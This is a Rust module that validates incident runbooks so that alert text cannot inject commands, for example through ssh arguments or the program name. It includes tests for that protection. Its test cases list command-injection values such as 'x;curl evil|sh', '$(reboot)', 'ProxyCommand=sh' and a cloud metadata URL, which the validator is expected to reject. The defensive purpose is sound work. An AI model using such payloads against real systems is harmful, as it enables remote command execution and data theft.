//! Runbooks, checked when the settings load so that an unsafe one cannot exist.
//!
//! Alert text (title, service, labels) is written by whoever holds an integration token, and
//! placeholders put it into diagnostic commands. So a runbook belongs to one user and runs only
//! for that user's incidents; every placeholder value must match an allowlist pattern; a
//! placeholder never chooses the program; and none lands after an `ssh` host, where ssh would
//! hand it to a remote shell as part of a command line.

use std::collections::BTreeMap;
use std::fmt;
use std::sync::LazyLock;

use regex::Regex;
use serde::Deserialize;

/// What a placeholder's whole value must match unless its runbook sets another pattern: the
/// characters of host names, ports, paths and service names, at most 253 of them (the longest
/// DNS name). Whatever the pattern, a value that starts with `-` or holds a NUL is refused.
pub const DEFAULT_PLACEHOLDER_PATTERN: &str = "[A-Za-z0-9._:/-]{1,253}";

static DEFAULT_PATTERN: LazyLock<PlaceholderPattern> = LazyLock::new(|| {
    PlaceholderPattern::new(DEFAULT_PLACEHOLDER_PATTERN).expect("the default pattern compiles")
});

/// ssh options that take a value, joined (`-p22`) or as the next argument: the letters
/// followed by `:` in OpenSSH's `getopt` string. Only value-taking letters belong here: a flag
/// listed by mistake would make the host read as its value and the next argument as the host.
const SSH_OPTIONS_WITH_VALUE: &str = "BbcDEeFIiJLlmOoPpQRSWw";

/// An unsafe or incomplete runbook; the message names it.
#[derive(Debug, thiserror::Error)]
#[error("{0}")]
pub struct RunbookError(String);

/// A runbook as written under `[[rca.runbooks]]`; `Runbook::try_from` checks it.
#[derive(Debug, Clone, Default, Deserialize)]
pub struct RunbookSpec {
    /// Its name, shown in thoughts and in start-up errors.
    pub name: String,
    /// The id of the user whose incidents it runs for (`aurora user create` prints it).
    /// Required; a default lets a missing one be refused with the runbook's name.
    #[serde(default)]
    pub user: String,
    /// Words that must appear (any of them) in the alert's title, service or label values.
    pub match_terms: Vec<String>,
    /// The knowledge pattern (by id) whose hypotheses its output is evidence for.
    #[serde(default)]
    pub pattern: Option<String>,
    /// Commands as argument lists, never a shell line. Placeholders: `{service}`,
    /// `{environment}`, `{title}`, `{source}`, `{labels.<name>}`.
    pub commands: Vec<Vec<String>>,
    /// Placeholder name (`service`, `labels.instance`) → the regular expression its whole
    /// value must match instead of [`DEFAULT_PLACEHOLDER_PATTERN`].
    #[serde(default)]
    pub placeholder_patterns: BTreeMap<String, String>,
}

/// Diagnostic commands for one user's alerts that match, with a compiled allowlist pattern
/// for each placeholder. Built only by `Runbook::try_from(RunbookSpec)`, which refuses an
/// unsafe runbook with a message naming it.
#[derive(Debug, Clone, Deserialize)]
#[serde(try_from = "RunbookSpec")]
pub struct Runbook {
    name: String,
    user: String,
    match_terms: Vec<String>,
    pattern: Option<String>,
    commands: Vec<Vec<String>>,
    placeholder_patterns: BTreeMap<String, PlaceholderPattern>,
}

impl Runbook {
    /// Its name.
    pub fn name(&self) -> &str {
        &self.name
    }

    /// The id of the only user whose incidents it runs for.
    pub fn user(&self) -> &str {
        &self.user
    }

    /// Words that must appear (any of them) in the alert's title, service or label values.
    pub fn match_terms(&self) -> &[String] {
        &self.match_terms
    }

    /// The knowledge pattern its output is evidence for.
    pub fn pattern(&self) -> Option<&str> {
        self.pattern.as_deref()
    }

    /// Its commands (templates with placeholders), each a non-empty argument list.
    pub fn commands(&self) -> &[Vec<String>] {
        &self.commands
    }

    /// What the value of the placeholder `name` must match: the runbook's own pattern for it,
    /// else the default.
    pub fn placeholder_pattern(&self, name: &str) -> &PlaceholderPattern {
        self.placeholder_patterns
            .get(name)
            .unwrap_or(&DEFAULT_PATTERN)
    }
}

impl TryFrom<RunbookSpec> for Runbook {
    type Error = RunbookError;

    fn try_from(spec: RunbookSpec) -> Result<Self, RunbookError> {
        let refuse = |why: String| RunbookError(format!("rca.runbooks `{}` {why}", spec.name));
        if spec.user.trim().is_empty() {
            return Err(refuse(
                "needs `user`: the id of the user whose incidents it runs for".into(),
            ));
        }
        if spec.match_terms.is_empty()
            || spec.commands.is_empty()
            || spec
                .commands
                .iter()
                .any(|c| c.is_empty() || c[0].is_empty())
        {
            return Err(refuse(
                "needs match_terms and commands, each a non-empty argument list".into(),
            ));
        }
        for command in &spec.commands {
            if has_placeholder(&command[0]) {
                return Err(refuse(format!(
                    "has a placeholder in the program `{}`: alert text must not choose what runs",
                    command[0]
                )));
            }
            if let Some(argument) = placeholder_after_ssh_host(command) {
                return Err(refuse(format!(
                    "has a placeholder in `{argument}` of `{}`: with ssh a placeholder may only be the host, since what follows the host reaches a remote shell as a command line",
                    command.join(" ")
                )));
            }
        }
        let mut placeholder_patterns = BTreeMap::new();
        for (name, source) in &spec.placeholder_patterns {
            let used = spec
                .commands
                .iter()
                .flatten()
                .flat_map(|arg| pieces(arg))
                .any(|piece| piece == Piece::Placeholder(name));
            if !used {
                return Err(refuse(format!(
                    "sets placeholder_patterns.`{name}`, a placeholder none of its commands uses"
                )));
            }
            let pattern = PlaceholderPattern::new(source).map_err(|err| {
                refuse(format!(
                    "has an invalid placeholder_patterns.`{name}` regular expression: {err}"
                ))
            })?;
            placeholder_patterns.insert(name.clone(), pattern);
        }
        Ok(Self {
            name: spec.name,
            user: spec.user,
            match_terms: spec.match_terms,
            pattern: spec.pattern,
            commands: spec.commands,
            placeholder_patterns,
        })
    }
}

/// A regular expression a placeholder's whole value must match.
#[derive(Debug, Clone)]
pub struct PlaceholderPattern {
    source: String,
    whole: Regex,
}

impl PlaceholderPattern {
    /// Compiles `source` to match whole values only.
    pub fn new(source: &str) -> Result<Self, regex::Error> {
        // Compiled alone first: then its parentheses balance, and the group below holds all
        // of it (`a)|(.*` would otherwise escape the anchors).
        Regex::new(source)?;
        let whole = Regex::new(&format!(r"\A(?:{source})\z"))?;
        Ok(Self {
            source: source.to_owned(),
            whole,
        })
    }

    /// Whether all of `value` matches.
    pub fn is_match(&self, value: &str) -> bool {
        self.whole.is_match(value)
    }
}

impl fmt::Display for PlaceholderPattern {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.source)
    }
}

/// A piece of a command argument.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Piece<'a> {
    /// Kept as written.
    Text(&'a str),
    /// `{name}`, by its name.
    Placeholder(&'a str),
}

/// Splits an argument into text and `{…}` placeholders: the one reading of a template that
/// both these checks and the worker's rendering use, so they cannot disagree on where a
/// placeholder is. A `{` without a later `}` is text.
pub fn pieces(arg: &str) -> Vec<Piece<'_>> {
    let mut pieces = Vec::new();
    let mut rest = arg;
    while let Some(open) = rest.find('{') {
        let Some(close) = rest[open..].find('}') else {
            break;
        };
        if open > 0 {
            pieces.push(Piece::Text(&rest[..open]));
        }
        pieces.push(Piece::Placeholder(&rest[open + 1..open + close]));
        rest = &rest[open + close + 1..];
    }
    if !rest.is_empty() {
        pieces.push(Piece::Text(rest));
    }
    pieces
}

fn has_placeholder(arg: &str) -> bool {
    pieces(arg)
        .iter()
        .any(|piece| matches!(piece, Piece::Placeholder(_)))
}

/// The first argument of an ssh invocation in `command` (`ssh` itself, or any argument named
/// `ssh`, so `timeout 5 ssh …` counts) that holds a placeholder and is not the host: an
/// option, an option's value, or the remote command, which ssh joins into one line for a
/// remote shell.
fn placeholder_after_ssh_host(command: &[String]) -> Option<&str> {
    let start = command
        .iter()
        .position(|arg| arg.rsplit('/').next() == Some("ssh"))?;
    let mut host = None;
    let mut index = start + 1;
    while index < command.len() {
        let arg = &command[index];
        if arg == "--" {
            host = Some(index + 1);
            break;
        }
        match arg.strip_prefix('-') {
            Some(letters) if !letters.is_empty() => {
                // A cluster such as `-tt` or `-vp22`; the first value-taking letter takes the
                // rest of the cluster, or the next argument when nothing follows it.
                let value_letter = letters
                    .char_indices()
                    .find(|(_, letter)| SSH_OPTIONS_WITH_VALUE.contains(*letter));
                if let Some((at, letter)) = value_letter
                    && at + letter.len_utf8() == letters.len()
                {
                    index += 1;
                }
                index += 1;
            }
            _ => {
                host = Some(index);
                break;
            }
        }
    }
    command[start..]
        .iter()
        .enumerate()
        .find(|(offset, arg)| Some(start + offset) != host && has_placeholder(arg))
        .map(|(_, arg)| arg.as_str())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn spec(commands: &[&[&str]]) -> RunbookSpec {
        RunbookSpec {
            name: "disk usage".into(),
            user: "user-1".into(),
            match_terms: vec!["disk".into()],
            pattern: None,
            commands: commands
                .iter()
                .map(|c| c.iter().map(|a| (*a).to_owned()).collect())
                .collect(),
            placeholder_patterns: BTreeMap::new(),
        }
    }

    fn refusal(spec: RunbookSpec) -> String {
        Runbook::try_from(spec).unwrap_err().to_string()
    }

    #[test]
    fn a_runbook_without_a_user_is_refused_by_name() {
        let err = refusal(RunbookSpec {
            user: String::new(),
            ..spec(&[&["df", "-h"]])
        });
        assert!(
            err.contains("rca.runbooks `disk usage` needs `user`"),
            "{err}"
        );
    }

    #[test]
    fn a_placeholder_after_an_ssh_host_is_refused_by_name() {
        for command in [
            &["ssh", "db-1", "systemctl", "status", "{service}"][..],
            &["ssh", "{labels.instance}", "df", "{labels.mount}"],
            &[
                "/usr/bin/ssh",
                "-p",
                "22",
                "db-1",
                "journalctl -u {service}",
            ],
            &["ssh", "-o", "{labels.option}", "db-1", "uptime"],
            &["ssh", "-p", "{labels.port}", "db-1", "uptime"],
            &["ssh", "-l{labels.user}", "db-1", "uptime"],
            &["ssh", "--", "db-1", "{service}"],
            &["timeout", "5", "ssh", "db-1", "df", "/var/lib/{service}"],
        ] {
            let err = refusal(spec(&[command]));
            assert!(
                err.contains("rca.runbooks `disk usage` has a placeholder in")
                    && err.contains("ssh a placeholder may only be the host"),
                "{command:?}: {err}"
            );
        }
    }

    #[test]
    fn a_placeholder_as_the_ssh_host_is_allowed() {
        for command in [
            &["ssh", "{labels.instance}", "df", "-h"][..],
            &[
                "ssh",
                "-p",
                "22",
                "-i",
                "/etc/aurora/key",
                "ops@{labels.instance}",
                "uptime",
            ],
            &[
                "ssh",
                "-tt",
                "-oBatchMode=yes",
                "{labels.instance}",
                "uptime",
            ],
            &["ssh", "-vp22", "{labels.instance}", "uptime"],
            &["ssh", "--", "{labels.instance}", "uptime"],
            &["timeout", "5", "ssh", "{labels.instance}", "uptime"],
        ] {
            assert!(Runbook::try_from(spec(&[command])).is_ok(), "{command:?}");
        }
        // `-p` takes the next argument, so the host is `db-1` and the placeholder follows it.
        let err = refusal(spec(&[&["ssh", "-p", "22", "db-1", "{labels.instance}"]]));
        assert!(err.contains("`{labels.instance}`"), "{err}");
    }

    #[test]
    fn a_placeholder_in_the_program_is_refused() {
        let err = refusal(spec(&[&["{labels.tool}", "status"]]));
        assert!(
            err.contains("rca.runbooks `disk usage` has a placeholder in the program"),
            "{err}"
        );
    }

    #[test]
    fn placeholder_patterns_compile_whole_and_bad_ones_are_refused_by_name() {
        let mut with_patterns = spec(&[&["curl", "{labels.url}"]]);
        with_patterns.placeholder_patterns = [(
            "labels.url".to_owned(),
            "https://status\\.example\\.com/[a-z]+".to_owned(),
        )]
        .into();
        let runbook = Runbook::try_from(with_patterns.clone()).unwrap();
        let url = runbook.placeholder_pattern("labels.url");
        assert!(url.is_match("https://status.example.com/db"));
        assert!(
            !url.is_match("http://169.254.169.254/latest/meta-data/"),
            "a runbook's pattern restricts what the default allows"
        );
        assert!(
            !url.is_match("https://status.example.com/db?x=https://evil"),
            "the whole value must match, not a part"
        );
        assert_eq!(
            runbook.placeholder_pattern("service").to_string(),
            DEFAULT_PLACEHOLDER_PATTERN
        );

        with_patterns.placeholder_patterns = [("labels.url".to_owned(), "[a-z".to_owned())].into();
        let err = refusal(with_patterns.clone());
        assert!(
            err.contains(
                "rca.runbooks `disk usage` has an invalid placeholder_patterns.`labels.url`"
            ),
            "{err}"
        );
        // Parentheses that would close the anchoring group are refused, not spliced in.
        with_patterns.placeholder_patterns =
            [("labels.url".to_owned(), "a)|(.*".to_owned())].into();
        assert!(refusal(with_patterns.clone()).contains("invalid"));
        with_patterns.placeholder_patterns =
            [("labels.instance".to_owned(), "[a-z]+".to_owned())].into();
        let err = refusal(with_patterns);
        assert!(
            err.contains(
                "placeholder_patterns.`labels.instance`, a placeholder none of its commands uses"
            ),
            "{err}"
        );
    }

    #[test]
    fn the_default_pattern_refuses_shell_and_option_syntax() {
        let default = &*DEFAULT_PATTERN;
        for value in [
            "db-1.internal:9100",
            "/var/lib/postgres",
            "checkout_api",
            "10.0.0.7",
        ] {
            assert!(default.is_match(value), "{value}");
        }
        for value in [
            "x;curl evil|sh",
            "$(reboot)",
            "`id`",
            "a b",
            "db-1\nuptime",
            "ProxyCommand=sh",
            "",
            &"a".repeat(254),
        ] {
            assert!(!default.is_match(value), "{value:?}");
        }
    }

    #[test]
    fn pieces_split_text_and_placeholders() {
        assert_eq!(
            pieces("/var/lib/{service}-{labels.x}.log{"),
            [
                Piece::Text("/var/lib/"),
                Piece::Placeholder("service"),
                Piece::Text("-"),
                Piece::Placeholder("labels.x"),
                Piece::Text(".log{"),
            ]
        );
        assert_eq!(pieces("-h"), [Piece::Text("-h")]);
    }
}
